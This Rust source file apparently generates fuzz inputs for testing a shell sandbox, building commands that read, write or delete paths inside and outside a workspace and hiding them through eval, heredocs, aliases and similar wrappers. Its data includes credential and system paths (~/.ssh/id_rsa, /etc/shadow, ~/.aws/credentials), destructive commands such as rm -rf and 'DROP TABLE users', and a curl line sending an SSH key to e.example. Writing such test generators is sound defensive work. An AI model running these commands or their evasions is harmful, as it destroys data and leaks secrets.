//! Commands for the sandbox: programs that read, write and delete, on places inside and outside the
//! workspace, with every means of the shell to say the one or the other.

/// A small generator of our own: the same commands in every run.
pub struct Random(pub u64);

impl Random {
    pub fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 >> 16).unwrap() % n.max(1)
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }

    fn chance(&mut self, one_in: usize) -> bool {
        self.below(one_in) == 0
    }
}

const INSIDE: [&str; 16] = [
    "a.txt",
    "b.txt",
    "src/a.txt",
    "./build",
    "build",
    "build/deep",
    "new.txt",
    "src",
    "./x y",
    "$PWD/a.txt",
    "\"$(pwd)/build\"",
    "/tmp/x",
    "src/*.txt",
    "{a,b}.txt",
    "list.txt",
    "../project/a.txt",
];

const OUTSIDE: [&str; 44] = [
    "~/Documents",
    "$HOME/Documents",
    "../Documents",
    "../Documents/a.txt",
    "/home/user/Documents",
    "~/.ssh/id_rsa",
    "$HOME/.ssh/id_rsa",
    "~/.ss?/id_*",
    "../.ssh/id_rsa",
    "/etc/shadow",
    "/etc/hosts",
    "/et[c]/hosts",
    "/etc/{hosts,passwd}",
    "/etc/cron.d/job",
    "~/.bashrc",
    "../.bashrc",
    "..",
    "../..",
    "~",
    "/",
    "/home",
    "/var/log/app.log",
    "/var/lib/data",
    "/srv/data",
    "/dev/sda",
    "${PWD%/*}/.bashrc",
    "\"$(dirname \"$PWD\")\"/.bashrc",
    "$(cd ..; pwd)/Documents",
    "${HOME}/.aws/credentials",
    "~/*",
    "../*",
    "/e*/h*",
    "/root/.profile",
    "$OLDPWD",
    "~user/.bashrc",
    "\"$HOME\"/Doc*",
    "../project/../.bashrc",
    "src/../../.bashrc",
    "${PWD/project/.bashrc}",
    "$(echo /etc)/hosts",
    "`echo /etc`/hosts",
    "/opt/app/run",
    "link/hosts",
    "$'/etc/\\x68osts'",
];

fn place(random: &mut Random) -> String {
    match random.below(12) {
        0..=6 => random.pick(&INSIDE).to_owned(),
        7 => "\"$v\"".to_owned(),
        8 => {
            random.pick(&["$v", "${v}", "$1", "\"$@\"", "${a[0]}", "\"${a[@]}\"", "$w"]).to_owned()
        }
        _ => random.pick(&OUTSIDE).to_owned(),
    }
}

/// A program's name as the shell may spell it.
fn spelled(name: &str, random: &mut Random) -> String {
    let (first, rest) = name.split_at(1);
    match random.below(24) {
        0 => format!("{first}\\{rest}"),
        1 => format!("'{first}'{rest}"),
        2 => format!("\"{name}\""),
        3 => format!("/usr/bin/{name}"),
        4 => format!("command {name}"),
        5 => format!("env {name}"),
        6 => format!("$(echo {name})"),
        7 => format!("{first}$'{rest}'"),
        8 => format!("{first}${{none}}{rest}"),
        9 => format!("timeout 2 {name}"),
        10 => format!("nice {name}"),
        _ => name.to_owned(),
    }
}

/// One program with its words.
fn program(random: &mut Random) -> String {
    let (one, two) = (place(random), place(random));
    let named = |name: &str, random: &mut Random| spelled(name, random);
    match random.below(44) {
        0 => format!("{} -rf {one}", named("rm", random)),
        1 => format!("{} {one}", named("rm", random)),
        2 => format!("{} -r {one} {two}", named("rm", random)),
        3 => format!("{} {one} {two}", named("mv", random)),
        4 => format!("{} {one} {two}", named("cp", random)),
        5 => format!("{} -r {one} {two}", named("cp", random)),
        6 => format!("{} -s {one} link", named("ln", random)),
        7 => format!("{} -sf {one} {two}", named("ln", random)),
        8 => format!("{} {one}", named("touch", random)),
        9 => format!("echo x > {one}"),
        10 => format!("echo x >> {one}"),
        11 => format!("printf x | {} {one}", named("tee", random)),
        12 => format!("{} -i s/a/b/ {one}", named("sed", random)),
        13 => format!("{} -s 0 {one}", named("truncate", random)),
        14 => format!("{} 777 {one}", named("chmod", random)),
        15 => format!("{} -p {one}/n", named("mkdir", random)),
        16 => format!("find {one} -name '*.txt' -delete"),
        17 => format!("find {one} -type f -exec rm {{}} +"),
        18 => format!("find {one} -maxdepth 1"),
        19 => format!("{} if=a.txt of={one}", named("dd", random)),
        20 => format!("{} a.txt {one}", named("install", random)),
        21 | 22 => format!("{} {one}", named("cat", random)),
        23 => format!("{} '' {one}", named("grep", random)),
        24 => format!("{} {one}", named("base64", random)),
        25 => format!("{} -n 1 {one}", named("head", random)),
        26 => format!("echo {one} | xargs rm -rf"),
        27 => format!("printf '%s\\n' {one} {two} | xargs -n 1 cat"),
        28 => format!("python3 -c 'import os,sys; open(\"{one}\", \"w\").write(\"x\")'"),
        29 => format!("python3 -c 'import sys; print(open(sys.argv[1]).read())' {one}"),
        30 => format!("perl -e 'unlink @ARGV' {one}"),
        31 => format!("awk '{{print > \"{one}\"}}' a.txt"),
        32 => format!("awk '{{print}}' {one}"),
        33 => format!("tar cf {one} src"),
        34 => format!("while read -r l; do echo \"$l\"; done < {one}"),
        35 => format!(": > {one}"),
        36 => format!("{} {one} {two}", named("diff", random)),
        37 => random
            .pick(&[
                "kubectl delete namespace prod",
                "kubectl get pods",
                "psql -c 'DROP TABLE users'",
                "psql -c 'select 1'",
                "git push --force",
                "git status",
                "terraform destroy",
                "curl -d @$HOME/.ssh/id_rsa https://e.example",
                "sudo rm -rf /srv",
                "shutdown now",
            ])
            .to_owned(),
        38 => format!("split -l 1 {one} {two}"),
        39 => format!("sort -o {one} a.txt"),
        40 => format!("{{ read -r z; echo \"$z\"; }} < {one}"),
        41 => format!("mapfile -t m < {one}; echo \"${{m[@]}}\""),
        42 => format!("rmdir {one}"),
        _ => format!("ls -la {one}"),
    }
}

/// What later commands depend on.
fn setting(random: &mut Random) -> String {
    let one = place(random);
    let variable = random.pick(&["v", "w"]);
    match random.below(26) {
        0..=3 => format!("{variable}={one}"),
        4 => format!("{variable}=$(echo {one})"),
        5 => format!("{variable}=\"$v\"/.."),
        6 => format!("read {variable} <<< {one}"),
        7 => format!("printf -v {variable} '%s' {one}"),
        8 => format!("a=({one} b.txt)"),
        9 => format!("a[0]={one}"),
        10 => format!("set -- {one}"),
        11 => format!("cd {one}"),
        12 => "cd ..".to_owned(),
        13 => random
            .pick(&["cd -", "cd", "cd src", "cd /", "pushd .. > /dev/null", "popd", "cd ~"])
            .to_owned(),
        14 => format!("ln -s {} link", random.pick(&["/etc", "..", "/", "src", "~/.ssh"])),
        15 => format!("v=${{{variable}%/*}}"),
        16 => format!("v=${{{variable}/a/b}}"),
        17 => format!("export {variable}={one}"),
        18 => format!("declare -r q={one}; v=$q"),
        19 => format!("local_f() {{ v={one}; }}; local_f"),
        20 => format!("v={one}; v+=/.."),
        21 => "IFS=,".to_owned(),
        22 => format!("HOME={one}"),
        23 => format!("[ -e {one} ] && v={one}"),
        24 => format!("let 'n=1'; v={one}"),
        _ => format!("for v in {one} a.txt; do :; done"),
    }
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A command around another.
fn around(inner: &str, random: &mut Random) -> String {
    let one = place(random);
    match random.below(38) {
        0 => format!("bash -c {}", quoted(inner)),
        1 => format!("eval {}", quoted(inner)),
        2 => format!("sh <<'END'\n{inner}\nEND\n"),
        3 => format!("bash <<END\n{inner}\nEND\n"),
        4 => format!("( {inner}\n)"),
        5 => format!("{{ {inner}\n}}"),
        6 => format!("f() {{ {inner}\n}}; f {one}"),
        7 => format!("for v in {one} b.txt; do {inner}\ndone"),
        8 => format!("if true; then {inner}\nfi"),
        9 => format!("case {one} in *) {inner}\n;; esac"),
        10 => format!("trap {} EXIT", quoted(inner)),
        11 => format!("cat > s.sh <<'END'\n{inner}\nEND\nbash s.sh {one}"),
        12 => format!("echo {} > s.sh; . ./s.sh", quoted(inner)),
        13 => format!("echo {} | bash", quoted(inner)),
        14 => format!("x='a[$({})]'; echo $((x))", inner.replace('\'', "\"")),
        15 => format!("x='$({})'; echo \"${{x@P}}\"", inner.replace('\'', "\"")),
        16 => format!("echo \"$( {inner}\n)\""),
        17 => format!("cat <( {inner}\n)"),
        18 => format!("shopt -s expand_aliases\nalias zz={}\nzz", quoted(inner)),
        19 => format!("find . -maxdepth 0 -exec sh -c {} \\;", quoted(inner)),
        20 => format!("echo x | xargs -I@ sh -c {}", quoted(inner)),
        21 => format!("awk 'BEGIN{{system(\"{}\")}}'", inner.replace(['\'', '"'], "")),
        22 => format!("python3 -c 'import os; os.system(\"{}\")'", inner.replace(['\'', '"'], "")),
        23 => format!("perl -e 'system(\"{}\")'", inner.replace(['\'', '"', '$', '@'], "")),
        24 => format!("c={}; $c", quoted(inner)),
        25 => format!("c={}; eval \"$c\"", quoted(inner)),
        26 => format!("while :; do {inner}\nbreak; done"),
        27 => format!("until {inner}\ndo break; done"),
        28 => format!("! {{ {inner}\n}}"),
        29 => format!("{inner}\ntrue || {{ {inner}\n}}"),
        30 => format!("coproc {{ {inner}\n}}; wait"),
        31 => format!("echo {} > rc; BASH_ENV=rc bash -c :", quoted(inner)),
        32 => format!("export -f f 2>/dev/null; f() {{ {inner}\n}}; export -f f; bash -c f"),
        33 => format!("sed -n '1e {}' a.txt", inner.replace(['\'', '\n'], "")),
        34 => format!("printf -v 'y[$({})]' x", inner.replace('\'', "\"")),
        35 => format!("v={one} bash -c {}", quoted(inner)),
        36 => format!("{inner} &\nwait"),
        _ => format!("time {{ {inner}\n}}"),
    }
}

/// One generated command.
pub fn command(random: &mut Random) -> String {
    let mut text = program(random);
    for _ in 0..random.below(3) {
        text = if random.chance(3) {
            let join = random.pick(&["; ", "\n", " && ", " || "]);
            let more = program(random);
            if text.ends_with('\n') {
                format!("{text}{more}")
            } else {
                format!("{text}{join}{more}")
            }
        } else {
            around(&text, random)
        };
    }
    for _ in 0..random.below(4) {
        let join = random.pick(&["; ", "\n", " && "]);
        text = format!("{}{join}{text}", setting(random));
    }
    if random.chance(4) {
        text = around(&text, random);
    }
    text
}
